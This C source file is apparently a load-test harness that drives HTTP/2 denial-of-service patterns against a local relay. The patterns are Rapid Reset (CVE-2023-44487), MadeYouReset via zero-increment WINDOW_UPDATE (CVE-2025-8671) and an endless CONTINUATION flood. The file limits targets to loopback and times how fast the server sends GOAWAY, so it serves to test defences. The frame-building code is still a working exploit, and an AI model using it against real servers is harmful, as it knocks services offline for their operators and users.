/*
 * rapid_reset.c: HTTP/2 abuse loads against a relay on loopback, one per --mode:
 *   rst           "Rapid Reset" (CVE-2023-44487): streams opened and cancelled at once by the client's RST_STREAM
 *   wu0           "MadeYouReset" (CVE-2025-8671): streams opened, then WINDOW_UPDATE with increment 0 on each, which
 *                 makes the server reset them
 *   continuation  one HEADERS frame without END_HEADERS, then empty CONTINUATION frames without end
 *   streams       streams that complete normally (at most 10 outstanding), as many as the connection takes
 * Prints one RESULT line: streams sent, GOAWAYs seen, the time from the first write to the first GOAWAY, and its code.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

#define BATCH 100 /* streams opened and reset per write */

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static size_t frame(uint8_t *p, size_t len, uint8_t type, uint8_t flags, uint32_t stream)
{
    p[0] = (uint8_t)(len >> 16);
    p[1] = (uint8_t)(len >> 8);
    p[2] = (uint8_t)len;
    p[3] = type;
    p[4] = flags;
    p[5] = (uint8_t)(stream >> 24) & 0x7f;
    p[6] = (uint8_t)(stream >> 16);
    p[7] = (uint8_t)(stream >> 8);
    p[8] = (uint8_t)stream;
    return 9;
}

/* a HEADERS block of static-table indexes and literals without indexing (RFC 7541): GET https://localhost<path> */
static size_t header_block(uint8_t *p, const char *path)
{
    size_t n = 0, plen = strlen(path);
    p[n++] = 0x82; /* :method GET */
    p[n++] = 0x87; /* :scheme https */
    p[n++] = 0x04; /* :path, literal value */
    p[n++] = (uint8_t)plen;
    memcpy(p + n, path, plen);
    n += plen;
    p[n++] = 0x01; /* :authority, literal value */
    p[n++] = 9;
    memcpy(p + n, "localhost", 9);
    return n + 9;
}

typedef struct st_conn_t {
    int fd;
    SSL *ssl;
    uint32_t next_stream;
    int goaway;
    uint32_t goaway_code;
    uint32_t goaway_last;     /* the last stream id the server's (first) GOAWAY says it processes */
    unsigned long long ended; /* streams the server ended: END_STREAM seen, or RST_STREAM */
    uint8_t in[16384 + 9];    /* the server's frames, parsed as they come: a partial frame is kept here */
    size_t inlen;
} conn_t;

static double first_goaway_at; /* seconds since start, 0 until one is seen */
static uint32_t first_goaway_code;
static unsigned long long lost; /* streams mode: streams a GOAWAY said were taken that never ended */
static double started_at;

static int tcp_connect(const char *host, int port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    if (fd == -1 || inet_pton(AF_INET, host, &sa.sin_addr) != 1 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
        if (fd != -1)
            close(fd);
        return -1;
    }
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    return fd;
}

static int conn_open(conn_t *c, SSL_CTX *ctx, const char *host, int port)
{
    static const uint8_t alpn[] = {2, 'h', '2'};
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    memset(c, 0, sizeof(*c));
    if ((c->fd = tcp_connect(host, port)) == -1)
        return -1;
    c->ssl = SSL_new(ctx);
    SSL_set_fd(c->ssl, c->fd);
    SSL_set_tlsext_host_name(c->ssl, "localhost");
    SSL_set_alpn_protos(c->ssl, alpn, sizeof(alpn));
    if (SSL_connect(c->ssl) != 1)
        return -1;
    const unsigned char *proto;
    unsigned protolen;
    SSL_get0_alpn_selected(c->ssl, &proto, &protolen);
    if (protolen != 2 || memcmp(proto, "h2", 2) != 0) {
        fprintf(stderr, "rapid_reset: the server did not select h2 (HTTP/2 off?)\n");
        return -2;
    }
    /* SETTINGS_INITIAL_WINDOW_SIZE 2^31-1, and the connection's window opened as wide: responses never wait for us */
    uint8_t settings[9 + 6 + 9 + 4];
    size_t n = frame(settings, 6, 0x4, 0, 0);
    static const uint8_t window[6] = {0, 4, 0x7f, 0xff, 0xff, 0xff};
    memcpy(settings + n, window, 6);
    n += 6;
    n += frame(settings + n, 4, 0x8, 0, 0);
    uint32_t inc = 0x7fffffffu - 65535;
    settings[n++] = (uint8_t)(inc >> 24), settings[n++] = (uint8_t)(inc >> 16), settings[n++] = (uint8_t)(inc >> 8);
    settings[n++] = (uint8_t)inc;
    if (SSL_write(c->ssl, preface, sizeof(preface) - 1) <= 0 || SSL_write(c->ssl, settings, (int)n) <= 0)
        return -1;
    fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
    c->next_stream = 1;
    return 0;
}

static void conn_close(conn_t *c)
{
    if (c->ssl != NULL)
        SSL_free(c->ssl);
    if (c->fd > 0)
        close(c->fd);
    memset(c, 0, sizeof(*c));
}

/* one frame from the server: GOAWAY (7) with its code, streams ended (END_STREAM on HEADERS or DATA, RST_STREAM) */
static void on_frame(conn_t *c, const uint8_t *f, size_t len)
{
    uint8_t type = f[3], flags = f[4];
    if (type == 0x7 && len >= 8) {
        if (!c->goaway) {
            c->goaway_last = ((uint32_t)f[9] & 0x7f) << 24 | (uint32_t)f[9 + 1] << 16 | (uint32_t)f[9 + 2] << 8 | f[9 + 3];
            c->goaway_code = (uint32_t)f[9 + 4] << 24 | (uint32_t)f[9 + 5] << 16 | (uint32_t)f[9 + 6] << 8 | f[9 + 7];
        }
        c->goaway = 1;
        if (first_goaway_at == 0) {
            if (getenv("RLY_H2_DEBUG") != NULL)
                fprintf(stderr, "rapid_reset: GOAWAY after %u streams sent, %llu ended: %.*s\n", (c->next_stream - 1) / 2, c->ended,
                        (int)(len - 8), (const char *)f + 9 + 8);
            first_goaway_at = now() - started_at;
            first_goaway_code = c->goaway_code;
        }
    } else if (type == 0x3 || ((type == 0x0 || type == 0x1) && (flags & 0x1) != 0)) {
        ++c->ended;
    }
}

/* reads what the server sent and parses its frames; -1 when the connection is closed */
static int drain(conn_t *c, unsigned long long *bytes)
{
    uint8_t buf[65536];
    for (;;) {
        int n = SSL_read(c->ssl, buf, sizeof(buf));
        if (n > 0) {
            *bytes += (unsigned long long)n;
            for (int i = 0; i != n;) {
                size_t take = sizeof(c->in) - c->inlen < (size_t)(n - i) ? sizeof(c->in) - c->inlen : (size_t)(n - i);
                memcpy(c->in + c->inlen, buf + i, take);
                c->inlen += take;
                i += (int)take;
                size_t off = 0;
                while (c->inlen - off >= 9) {
                    size_t flen = (size_t)c->in[off] << 16 | (size_t)c->in[off + 1] << 8 | c->in[off + 2];
                    if (flen > sizeof(c->in) - 9)
                        return -1; /* larger than the default SETTINGS_MAX_FRAME_SIZE we announced */
                    if (c->inlen - off < 9 + flen)
                        break;
                    on_frame(c, c->in + off, flen);
                    off += 9 + flen;
                }
                memmove(c->in, c->in + off, c->inlen - off);
                c->inlen -= off;
            }
            continue;
        }
        int err = SSL_get_error(c->ssl, n);
        ERR_clear_error();
        if (err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE)
            return 0;
        return -1;
    }
}

/* writes all of buf, draining while the socket is full; -1 when the connection is gone */
static int write_all(conn_t *c, const uint8_t *buf, size_t len, unsigned long long *bytes)
{
    size_t off = 0;
    while (off < len) {
        int n = SSL_write(c->ssl, buf + off, (int)(len - off));
        if (n > 0) {
            off += (size_t)n;
            continue;
        }
        int err = SSL_get_error(c->ssl, n);
        ERR_clear_error();
        if (err != SSL_ERROR_WANT_WRITE && err != SSL_ERROR_WANT_READ)
            return -1;
        if (drain(c, bytes) != 0)
            return -1;
        struct pollfd pfd = {c->fd, POLLIN | POLLOUT, 0};
        poll(&pfd, 1, 100);
    }
    return 0;
}

int main(int argc, char **argv)
{
    const char *host = "127.0.0.1", *path = "/.well-known/authrelay", *mode = "rst";
    int port = 8443, conns = 1;
    double seconds = 10;
    for (int i = 1; i < argc; ++i) {
        if (strcmp(argv[i], "--host") == 0 && i + 1 < argc)
            host = argv[++i];
        else if (strcmp(argv[i], "--port") == 0 && i + 1 < argc)
            port = (int)strtol(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--seconds") == 0 && i + 1 < argc)
            seconds = strtod(argv[++i], NULL);
        else if (strcmp(argv[i], "--conns") == 0 && i + 1 < argc)
            conns = (int)strtol(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--path") == 0 && i + 1 < argc)
            path = argv[++i];
        else if (strcmp(argv[i], "--mode") == 0 && i + 1 < argc)
            mode = argv[++i];
        else {
            fprintf(stderr, "usage: rapid_reset [--host 127.0.0.1] [--port 8443] [--seconds 10] [--conns 1] [--path P]\n"
                            "                   [--mode rst|wu0|continuation|streams]\n");
            return 2;
        }
    }
    struct in_addr a;
    if (inet_pton(AF_INET, host, &a) != 1 || (ntohl(a.s_addr) >> 24) != 127) {
        fprintf(stderr, "rapid_reset: loopback addresses only\n");
        return 2;
    }
    if (strcmp(mode, "rst") != 0 && strcmp(mode, "wu0") != 0 && strcmp(mode, "continuation") != 0 && strcmp(mode, "streams") != 0) {
        fprintf(stderr, "rapid_reset: --mode rst, wu0, continuation or streams\n");
        return 2;
    }
    if (seconds <= 0 || seconds > 120 || conns < 1 || conns > 64) {
        fprintf(stderr, "rapid_reset: --seconds 0..120, --conns 1..64\n");
        return 2;
    }

    signal(SIGPIPE, SIG_IGN); /* the server closes abusive connections: a write error, not a signal */
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    conn_t *cs = calloc((size_t)conns, sizeof(*cs));
    unsigned long long streams = 0, bytes = 0, reconnects = 0, goaways = 0;
    uint8_t hb[128], batch[BATCH * (9 + 128 + 9 + 4)];
    size_t hblen = header_block(hb, path);

    for (int i = 0; i != conns; ++i) {
        int rc = conn_open(&cs[i], ctx, host, port);
        if (rc != 0) {
            fprintf(stderr, "rapid_reset: cannot open an HTTP/2 connection\n");
            printf("RESULT rapid_reset h2=%s streams=0 rate=0\n", rc == -2 ? "refused" : "error");
            return 1;
        }
    }
    double start = now(), end = start + seconds;
    started_at = start;
    while (now() < end) {
        for (int i = 0; i != conns; ++i) {
            conn_t *c = &cs[i];
            if (c->ssl == NULL || c->goaway || c->next_stream > 0x7ffffff0u - 2 * BATCH) {
                if (mode[0] == 's' && c->ssl != NULL && c->goaway) {
                    /* a graceful GOAWAY: the streams up to its last id are answered, then the server closes */
                    for (double until = now() + 2; now() < until && drain(c, &bytes) == 0;) {
                        struct pollfd pfd = {c->fd, POLLIN, 0};
                        poll(&pfd, 1, 10);
                    }
                    unsigned long long taken = (c->goaway_last + 1) / 2;
                    lost += taken > c->ended ? taken - c->ended : 0;
                }
                goaways += c->goaway;
                conn_close(c);
                if (conn_open(c, ctx, host, port) != 0) {
                    conn_close(c);
                    continue;
                }
                ++reconnects;
            }
            size_t n = 0;
            int count = BATCH;
            if (mode[0] == 's') {
                /* at most 10 outstanding: wait for the server to end streams before sending more */
                unsigned long long sent = (c->next_stream - 1) / 2;
                if (sent - c->ended >= 10) {
                    struct pollfd pfd = {c->fd, POLLIN, 0};
                    poll(&pfd, 1, 10);
                    if (drain(c, &bytes) != 0) {
                        conn_close(c);
                        ++reconnects;
                    }
                    continue;
                }
                count = (int)(10 - (sent - c->ended));
            }
            if (mode[0] == 'c' && c->next_stream != 1) {
                for (int s = 0; s != BATCH; ++s)
                    n += frame(batch + n, 0, 0x9, 0, c->next_stream - 2); /* CONTINUATION, empty, no END_HEADERS */
                count = 0;
            }
            for (int s = 0; s != count; ++s) {
                uint32_t id = c->next_stream;
                c->next_stream += 2;
                if (mode[0] == 'c') {
                    n += frame(batch + n, hblen, 0x1, 0x1, id); /* HEADERS, END_STREAM, no END_HEADERS */
                    memcpy(batch + n, hb, hblen);
                    n += hblen;
                    break;
                }
                n += frame(batch + n, hblen, 0x1, 0x5, id); /* HEADERS, END_STREAM | END_HEADERS */
                memcpy(batch + n, hb, hblen);
                n += hblen;
                if (mode[0] == 'r') {
                    n += frame(batch + n, 4, 0x3, 0, id);                           /* RST_STREAM */
                    batch[n++] = 0, batch[n++] = 0, batch[n++] = 0, batch[n++] = 8; /* CANCEL */
                } else if (mode[0] == 'w') {
                    n += frame(batch + n, 4, 0x8, 0, id); /* WINDOW_UPDATE, increment 0 */
                    batch[n++] = 0, batch[n++] = 0, batch[n++] = 0, batch[n++] = 0;
                }
            }
            if (write_all(c, batch, n, &bytes) != 0 || drain(c, &bytes) != 0) {
                conn_close(c);
                ++reconnects;
                continue;
            }
            streams += (unsigned long long)count;
        }
    }
    double took = now() - start;
    for (int i = 0; i != conns; ++i)
        goaways += cs[i].goaway;
    printf("RESULT rapid_reset h2=yes mode=%s conns=%d seconds=%.1f streams=%llu rate=%.0f reconnects=%llu goaways=%llu "
           "first_goaway_ms=%.0f goaway_code=%u lost=%llu bytes_from_server=%llu\n",
           mode, conns, took, streams, streams / took, reconnects, goaways, first_goaway_at * 1000, first_goaway_code, lost, bytes);
    for (int i = 0; i != conns; ++i)
        conn_close(&cs[i]);
    free(cs);
    SSL_CTX_free(ctx);
    return 0;
}
